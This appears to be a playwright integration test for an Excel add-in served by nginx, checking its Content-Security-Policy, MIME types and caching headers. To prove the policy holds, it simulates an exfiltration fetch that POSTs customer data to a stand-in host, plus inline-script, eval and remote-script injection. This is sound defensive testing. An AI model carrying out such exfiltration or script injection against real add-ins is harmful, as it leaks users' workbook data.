/**
 * The add-in served by a real web server, as a team would host it: the production build for
 * https://scoring.example.test/addin/ (with the playground, `--env playground`), copied where the
 * shipped deploy/nginx.conf expects it, served by Debian's nginx over HTTPS with a certificate
 * made for the test (nginx-server.ts), and loaded in Debian's chromium through playwright-core.
 *
 * What it proves: the headers a host should send (the CSP, MIME types, caching); the pane's page
 * runs under its policy; a fetch from inside the pane to another origin is refused by the
 * policy itself (a securitypolicyviolation for connect-src and no request at all), where the
 * same fetch from a page without the policy goes out to the network; no inline script, no eval,
 * no script from elsewhere; the playground works from nginx under the same policy.
 *
 * Nothing leaves the machine: chromium resolves scoring.example.test to nginx's loopback port
 * and every other name to nothing (--host-resolver-rules), and every request for another host
 * is refused by a playwright route and recorded; after each test, every such request must have
 * been refused there. office.js (Microsoft's CDN) cannot load, so the pane shows what it shows
 * outside Excel; what only real Excel can confirm is in test/MANUAL-EXCEL.md.
 */
import fs from 'node:fs';
import path from 'node:path';
import zlib from 'node:zlib';
import { chromium, type BrowserContext, type Page } from 'playwright-core';
import { stringsFor } from '../../src/i18n/strings';
import { CHROMIUM, CHROMIUM_ARGS, tempDir } from '../browser/playground-server';
import { paneFrame } from '../browser/playground-session';
import { ADDRESS, HOST, attribute, buildForAddress, directives, metaPolicy } from './deploy-build';
import { request, startNginx, type Nginx } from './nginx-server';

jest.setTimeout(60_000);

const PANE_POLICY =
  "default-src 'self'; script-src 'self' https://appsforoffice.microsoft.com https://officeapis.public.onecdn.static.microsoft; " +
  "style-src 'self' 'unsafe-inline'; img-src 'self'; font-src 'self'; connect-src 'self'; object-src 'none'; base-uri 'self'; form-action 'none'";
const PLAYGROUND_POLICY = PANE_POLICY.replace('officeapis.public.onecdn.static.microsoft;', "officeapis.public.onecdn.static.microsoft 'wasm-unsafe-eval';");
const OFFICE_JS = 'https://appsforoffice.microsoft.com/lib/1/hosted/office.js';
/** Another origin, as a script smuggling workbook data out would use. */
const ELSEWHERE = 'https://elsewhere.example.test/collect';
/** The smallest WebAssembly module ("\0asm", version 1): served to check nginx's .wasm MIME type. */
const EMPTY_WASM = Buffer.from([0x00, 0x61, 0x73, 0x6d, 0x01, 0x00, 0x00, 0x00]);

interface Violation {
  directive: string;
  blocked: string;
  disposition: string;
}

let dir = '';
let dist = '';
let server: Nginx | undefined;
let context: BrowserContext | undefined;
/** Every URL the browser asked for during the current test. */
const requests: string[] = [];
/** The requests for another host that reached the network layer, refused there by the route. */
const refused: string[] = [];
/** The loads the page's policy refused (they never reached the network layer). */
const blockedByPolicy: string[] = [];
/** Called with the URL of each request the route refuses. */
const routeListeners = new Set<(url: string) => void>();
const pageErrors: string[] = [];

const isServer = (url: string): boolean => {
  try {
    return new URL(url).host === HOST;
  } catch {
    return false;
  }
};

beforeAll(async () => {
  if (!fs.existsSync(CHROMIUM)) throw new Error(`${CHROMIUM} is missing: apt-get install -y --no-install-recommends chromium (or set CHROMIUM_PATH)`);
  dir = tempDir('deploy-nginx-');
  const build = await buildForAddress(path.join(dir, 'dist'), { playground: true });
  dist = build.root;
  // The build goes where deploy/nginx.conf's steps put it: <root>/addin/ for …/addin/.
  const www = path.join(dir, 'www');
  fs.cpSync(dist, path.join(www, new URL(ADDRESS).pathname), { recursive: true });
  fs.writeFileSync(path.join(www, 'addin', 'probe.wasm'), EMPTY_WASM);
  server = await startNginx({ dir, root: www, host: HOST });

  context = await chromium.launchPersistentContext(path.join(dir, 'profile'), {
    executablePath: CHROMIUM,
    headless: true,
    args: [
      ...CHROMIUM_ARGS,
      // scoring.example.test is nginx on the loopback; every other name resolves to nothing.
      `--host-resolver-rules=MAP ${HOST} 127.0.0.1:${server.port}, MAP * ~NOTFOUND`,
      // The test certificate is trusted by its public key, and only it: chromium's
      // --ignore-certificate-errors-spki-list rather than ignoreHTTPSErrors or
      // --ignore-certificate-errors, which would accept any certificate and so would not show
      // that nginx serves the one it was given.
      `--ignore-certificate-errors-spki-list=${server.spki}`,
    ],
    viewport: { width: 1400, height: 900 },
    locale: 'en-US',
  });
  context.on('request', (r) => requests.push(r.url()));
  // Chromium reports a load the policy refused as a request that failed with "csp".
  context.on('requestfailed', (r) => {
    if (r.failure()?.errorText === 'csp') blockedByPolicy.push(r.url());
  });
  await context.route(
    (url) => !isServer(url.href),
    async (route) => {
      refused.push(route.request().url());
      for (const listener of routeListeners) listener(route.request().url());
      await route.abort('blockedbyclient');
    },
  );
  // Every frame records the policy violations it reports (an init script is not subject to the page's CSP).
  await context.addInitScript(() => {
    const w = window as unknown as { __violations: Violation[] };
    w.__violations = [];
    document.addEventListener('securitypolicyviolation', (e) => {
      w.__violations.push({ directive: e.effectiveDirective, blocked: e.blockedURI, disposition: e.disposition });
    });
  });
}, 240_000);

afterAll(async () => {
  await context?.close();
  await server?.stop();
  if (dir) fs.rmSync(dir, { recursive: true, force: true });
});

beforeEach(() => {
  requests.length = 0;
  refused.length = 0;
  blockedByPolicy.length = 0;
  pageErrors.length = 0;
});

afterEach(() => {
  // Nothing left the machine: every request for another host was refused, by the page's policy or by the route.
  const elsewhere = requests.filter((url) => !isServer(url) && !/^(about|data|blob):/.test(url));
  expect(elsewhere.sort()).toEqual([...refused, ...blockedByPolicy].sort());
});

const started = <T>(value: T | undefined, what: string): T => {
  if (value === undefined) throw new Error(`the ${what} has not started (beforeAll failed?)`);
  return value;
};

async function open(url: string): Promise<{ page: Page; csp: string | undefined }> {
  const page = await started(context, 'browser').newPage();
  page.on('pageerror', (error) => pageErrors.push(String(error)));
  const response = await page.goto(url);
  return { page, csp: response?.headers()['content-security-policy'] };
}

const violationsIn = (page: Page): Promise<Violation[]> => page.evaluate(() => (window as unknown as { __violations: Violation[] }).__violations);

interface FetchOutcome {
  error: string;
  /** The first policy violation the page reported, or [] when it reported none. */
  violations: Violation[];
  /** Whether the request reached the network layer (the test's route, which refuses it). */
  reachedNetwork: boolean;
}

/** What a fetch refused by the policy looks like: no request out, a connect-src violation. */
const REFUSED_BY_POLICY: FetchOutcome = {
  error: 'TypeError: Failed to fetch',
  violations: [{ directive: 'connect-src', blocked: ELSEWHERE, disposition: 'enforce' }],
  reachedNetwork: false,
};

/**
 * POSTs workbook-like data to another origin from inside `page`, and tells apart the two ways it
 * can fail: refused by the page's policy (a securitypolicyviolation, and the request never
 * reaches the network layer) or sent out (the test's route sees it and refuses it, a network
 * error, no violation). Waits for one of the two to happen, never for a time.
 */
async function crossOriginFetch(page: Page): Promise<FetchOutcome> {
  let reached!: () => void;
  const network = new Promise<void>((resolve) => {
    reached = resolve;
  });
  const watch = (url: string) => {
    if (url === ELSEWHERE) reached();
  };
  routeListeners.add(watch);
  try {
    const inPage = page.evaluate(async (url) => {
      const violation = new Promise<Violation>((resolve) => {
        document.addEventListener(
          'securitypolicyviolation',
          (e) => resolve({ directive: e.effectiveDirective, blocked: e.blockedURI, disposition: e.disposition }),
          { once: true },
        );
      });
      let error = 'no error';
      try {
        await fetch(url, { method: 'POST', body: '客户名称,综合得分\n华东贸易,92.5' });
      } catch (e) {
        error = `${(e as Error).name}: ${(e as Error).message}`;
      }
      const w = window as unknown as { __lastFetch?: { error: string; violation: Promise<Violation> } };
      w.__lastFetch = { error, violation };
      return error;
    }, ELSEWHERE);
    const error = await inPage;
    // The fetch has failed; now one of the two causes is certain to show (or has shown).
    const cause = await Promise.race([
      network.then(() => 'network' as const),
      page.evaluate(() => (window as unknown as { __lastFetch: { violation: Promise<Violation> } }).__lastFetch.violation),
    ]);
    return cause === 'network' ? { error, violations: [], reachedNetwork: true } : { error, violations: [cause], reachedNetwork: refused.includes(ELSEWHERE) };
  } finally {
    routeListeners.delete(watch);
  }
}

describe('nginx with deploy/nginx.conf', () => {
  it('sends the policy, the MIME types and the caching a host should: bundles cached for good, the page and the manifest revalidated', async () => {
    const nginx = started(server, 'server');
    const page = await request(nginx, '/addin/taskpane.html');
    expect(page.status).toBe(200);
    expect(page.headers['content-type']).toBe('text/html; charset=utf-8');
    expect(page.headers['content-security-policy']).toBe(PANE_POLICY);
    expect(metaPolicy(page.body.toString('utf8'))).toBe(PANE_POLICY);
    expect(page.headers['cache-control']).toBe('no-cache');
    expect(page.headers.etag).toEqual(expect.any(String));
    expect(page.headers['x-content-type-options']).toBe('nosniff');
    expect(page.headers['referrer-policy']).toBe('no-referrer');
    expect(page.headers['strict-transport-security']).toBe('max-age=31536000');
    // Excel on the web frames the pane: nothing may forbid that.
    expect(page.headers['x-frame-options']).toBeUndefined();
    expect(directives(page.headers['content-security-policy'] as string).has('frame-ancestors')).toBe(false);

    const manifest = await request(nginx, '/addin/manifest.xml');
    expect([manifest.status, manifest.headers['content-type'], manifest.headers['cache-control']]).toEqual([200, 'application/xml; charset=utf-8', 'no-cache']);
    expect(manifest.body.equals(fs.readFileSync(path.join(dist, 'manifest.xml')))).toBe(true);

    const bundle = [...page.body.toString('utf8').matchAll(/<script\b[^>]*>/g)].map((m) => attribute(m[0], 'src')).find((src) => src?.startsWith('taskpane.'));
    expect(bundle).toMatch(/^taskpane\.[0-9a-f]{8}\.js$/);
    const js = await request(nginx, `/addin/${bundle}`, { headers: { 'accept-encoding': 'gzip' } });
    expect([js.status, js.headers['content-type'], js.headers['cache-control'], js.headers['content-encoding']]).toEqual([
      200,
      'text/javascript; charset=utf-8',
      'public, max-age=31536000, immutable',
      'gzip',
    ]);
    expect(zlib.gunzipSync(js.body).equals(fs.readFileSync(path.join(dist, bundle!)))).toBe(true);

    const icon = await request(nginx, '/addin/assets/icon-32.png');
    expect([icon.status, icon.headers['content-type'], icon.headers['cache-control']]).toEqual([200, 'image/png', 'no-cache']);
    const wasm = await request(nginx, '/addin/probe.wasm');
    expect([wasm.status, wasm.headers['content-type']]).toEqual([200, 'application/wasm']);
    // The playground's gzipped wasm goes out as bytes, not re-encoded: the page un-gzips it itself.
    const wasmGz = await request(nginx, '/addin/playground/excelize.wasm.gz', { headers: { 'accept-encoding': 'gzip' } });
    expect([wasmGz.status, wasmGz.headers['content-type'], wasmGz.headers['content-encoding']]).toEqual([200, 'application/octet-stream', undefined]);
    expect(wasmGz.body.equals(fs.readFileSync(path.join(dist, 'playground', 'excelize.wasm.gz')))).toBe(true);

    const playground = await request(nginx, '/addin/playground/index.html');
    expect(playground.headers['content-security-policy']).toBe(PLAYGROUND_POLICY);
    expect(metaPolicy(playground.body.toString('utf8'))).toBe(PLAYGROUND_POLICY);
    const pane = await request(nginx, '/addin/playground/pane.html');
    expect(pane.headers['content-security-policy']).toBe(PANE_POLICY);
    expect(metaPolicy(pane.body.toString('utf8'))).toBe(PANE_POLICY);

    // No listings, nothing outside /addin/, read-only; the policy even on the refusals.
    for (const [urlPath, method, status] of [
      ['/addin/', 'GET', 404],
      ['/addin/assets/', 'GET', 404],
      ['/', 'GET', 404],
      ['/customer-scoring.conf', 'GET', 404],
      ['/addin/taskpane.html', 'POST', 403],
    ] as const) {
      const r = await request(nginx, urlPath, { method });
      expect([urlPath, method, r.status, r.headers['content-security-policy']]).toEqual([urlPath, method, status, PANE_POLICY]);
    }
  });
});

describe('the task pane from nginx, in chromium', () => {
  it('loads under its policy: the bundle runs and says it needs Excel; office.js is asked of the CDN (the policy allows it; the test refuses it); no violation', async () => {
    const { page, csp } = await open(`${ADDRESS}taskpane.html`);
    expect(csp).toBe(PANE_POLICY);
    // office.js could not load (no network), so the bundle shows what it shows outside Excel.
    await page.getByText(stringsFor('en-US').notInExcel, { exact: true }).waitFor();
    expect(await page.title()).toBe(stringsFor('en-US').productName);
    expect(await violationsIn(page)).toEqual([]);
    // The CDN request reached the network layer (where a CSP refusal would have stopped it first) and was refused there by the test.
    expect(refused).toEqual([OFFICE_JS]);
    expect(started(server, 'server').accessLog()).toMatch(/"GET \/addin\/taskpane\.html HTTP\/[\d.]+" 200 /);
    expect(pageErrors).toEqual([]);
    await page.close();
  });

  it('refuses a fetch to another origin by its policy: a connect-src violation and no request at all, where a page without the policy sends the same fetch out to the network', async () => {
    const { page } = await open(`${ADDRESS}taskpane.html`);
    await page.getByText(stringsFor('en-US').notInExcel, { exact: true }).waitFor();
    const consoleRefusal = page.waitForEvent(
      'console',
      (m) => m.type() === 'error' && m.text().includes(ELSEWHERE) && /Content Security Policy directive: "connect-src 'self'"/.test(m.text()),
    );
    expect(await crossOriginFetch(page)).toEqual(REFUSED_BY_POLICY);
    expect((await consoleRefusal).text()).toContain(ELSEWHERE);
    // The fetch never reached the network layer (the route): the policy refused it before.
    expect(refused).toEqual([OFFICE_JS]);

    // The control: the same fetch from a page with no policy is a network request (refused by the
    // test's route, as everything leaving the machine is) and no policy violation.
    const blank = await started(context, 'browser').newPage();
    expect(await crossOriginFetch(blank)).toEqual({ error: 'TypeError: Failed to fetch', violations: [], reachedNetwork: true });
    expect(refused).toEqual([OFFICE_JS, ELSEWHERE]);
    await blank.close();
    expect(pageErrors).toEqual([]);
    await page.close();
  });

  it("refuses it with either half alone: the header (nginx's own error page has no <meta>) and the <meta> (the page from a host that sends no header)", async () => {
    const headerOnly = await open(`${ADDRESS}no-such-page.html`);
    expect(headerOnly.csp).toBe(PANE_POLICY);
    expect(await headerOnly.page.content()).not.toContain('Content-Security-Policy');
    expect(await crossOriginFetch(headerOnly.page)).toEqual(REFUSED_BY_POLICY);
    await headerOnly.page.close();

    // A stand-in for a static host that sends no headers: the built page, as it is, with none.
    const page = await started(context, 'browser').newPage();
    page.on('pageerror', (error) => pageErrors.push(String(error)));
    await page.route(`${ADDRESS}meta-only.html`, (route) =>
      route.fulfill({ status: 200, contentType: 'text/html; charset=utf-8', body: fs.readFileSync(path.join(dist, 'taskpane.html')) }),
    );
    const response = await page.goto(`${ADDRESS}meta-only.html`);
    expect(response?.headers()['content-security-policy']).toBeUndefined();
    // The bundle (from nginx) runs under the <meta> alone.
    await page.getByText(stringsFor('en-US').notInExcel, { exact: true }).waitFor();
    expect(await crossOriginFetch(page)).toEqual(REFUSED_BY_POLICY);
    expect(refused).toEqual([OFFICE_JS]);
    expect(pageErrors).toEqual([]);
    await page.close();
  });

  it('runs no inline script, no eval and no script from another origin', async () => {
    const REMOTE = 'https://cdn.elsewhere.example.test/x.js';
    const { page } = await open(`${ADDRESS}taskpane.html`);
    await page.getByText(stringsFor('en-US').notInExcel, { exact: true }).waitFor();
    let remoteReached!: () => void;
    const network = new Promise<'reached the network'>((resolve) => {
      remoteReached = () => resolve('reached the network');
    });
    const watch = (url: string) => {
      if (url === REMOTE) remoteReached();
    };
    routeListeners.add(watch);
    try {
      const tried = await page.evaluate(async (remoteUrl) => {
        type Seen = { directive: string; blocked: string };
        const w = window as unknown as { __inline?: boolean; __six?: Promise<Seen[]> };
        const seen: Seen[] = [];
        // Each refusal is reported twice: by the header's policy and by the <meta>'s (both are enforced).
        w.__six = new Promise((resolve) => {
          document.addEventListener('securitypolicyviolation', (e) => {
            seen.push({ directive: e.effectiveDirective, blocked: e.blockedURI });
            if (seen.length === 6) resolve(seen);
          });
        });
        const inline = document.createElement('script');
        inline.textContent = 'window.__inline = true;';
        document.head.append(inline); // an inline script runs (or not) as it is inserted
        // eval from the page's own task (code evaluated by the test itself is exempt, as DevTools' console is).
        const evalError = await new Promise<string>((resolve) => {
          setTimeout(() => {
            try {
              (0, eval)('1 + 1');
              resolve('no error');
            } catch (e) {
              resolve((e as Error).name);
            }
          }, 0);
        });
        const remote = document.createElement('script');
        remote.src = remoteUrl;
        document.head.append(remote);
        return { evalError, inline: w.__inline ?? false };
      }, REMOTE);
      expect(tried).toEqual({ evalError: 'EvalError', inline: false });
      // Six violations, or the remote script going out to the network: whichever comes.
      const seen = await Promise.race([
        network,
        page.evaluate(() => (window as unknown as { __six: Promise<{ directive: string; blocked: string }[]> }).__six),
      ]);
      const key = (v: { directive: string; blocked: string }) => `${v.directive} ${v.blocked}`;
      expect(typeof seen === 'string' ? seen : [...seen].sort((a, b) => key(a).localeCompare(key(b)))).toEqual([
        { directive: 'script-src', blocked: 'eval' },
        { directive: 'script-src', blocked: 'eval' },
        { directive: 'script-src-elem', blocked: REMOTE },
        { directive: 'script-src-elem', blocked: REMOTE },
        { directive: 'script-src-elem', blocked: 'inline' },
        { directive: 'script-src-elem', blocked: 'inline' },
      ]);
    } finally {
      routeListeners.delete(watch);
    }
    // The script from elsewhere never reached the network layer: the policy refused it first.
    expect(blockedByPolicy).toEqual([REMOTE]);
    expect(refused).toEqual([OFFICE_JS]);
    expect(pageErrors).toEqual([]);
    await page.close();
  });
});

describe('the playground from nginx, in chromium', () => {
  it('loads the sample, finds its tables and shows the preview under the same policy (plus WebAssembly for the page around the pane); no violation; nothing asked of another host', async () => {
    const browser = started(context, 'browser');
    const page = await browser.newPage();
    page.on('pageerror', (error) => pageErrors.push(String(error)));
    const paneResponse = page.waitForResponse((r) => r.url() === `${ADDRESS}playground/pane.html`);
    const response = await page.goto(`${ADDRESS}playground/index.html?lang=zh-CN`);
    expect(response?.headers()['content-security-policy']).toBe(PLAYGROUND_POLICY);
    expect((await paneResponse).headers()['content-security-policy']).toBe(PANE_POLICY);

    const frame = await paneFrame(page, 'zh-CN');
    const s = stringsFor('zh-CN');
    await frame.getByRole('heading', { level: 3, name: s.previewHeading }).waitFor();
    const bar = frame.getByRole('img', { name: /^各等级客户数：/ });
    await bar.waitFor();
    // The sample has 24 customers: the tiers of the preview add up to them.
    const label = (await bar.getAttribute('aria-label')) ?? '';
    const counts = [...label.matchAll(/(\d+) 位/g)].map((m) => Number(m[1]));
    expect(counts.length).toBeGreaterThan(1);
    expect(counts.reduce((a, b) => a + b, 0)).toBe(24);

    // nginx's application/wasm is what WebAssembly.instantiateStreaming insists on.
    expect(
      await page.evaluate(async () => {
        const { instance } = await WebAssembly.instantiateStreaming(fetch('../probe.wasm'));
        return Object.keys(instance.exports).length;
      }),
    ).toBe(0);

    expect(await violationsIn(page)).toEqual([]);
    expect(await frame.evaluate(() => (window as unknown as { __violations: Violation[] }).__violations)).toEqual([]);
    expect(refused).toEqual([]);
    const log = started(server, 'server').accessLog();
    for (const file of ['playground/index.html', 'playground/pane.html', 'playground/office-shim.js', 'playground/sample-customers.xlsx']) {
      expect(log).toMatch(new RegExp(`"GET /addin/${file.replace(/\./g, '\\.')}[^"]* HTTP/[\\d.]+" 200 `));
    }
    expect(pageErrors).toEqual([]);
    await page.close();
  });
});
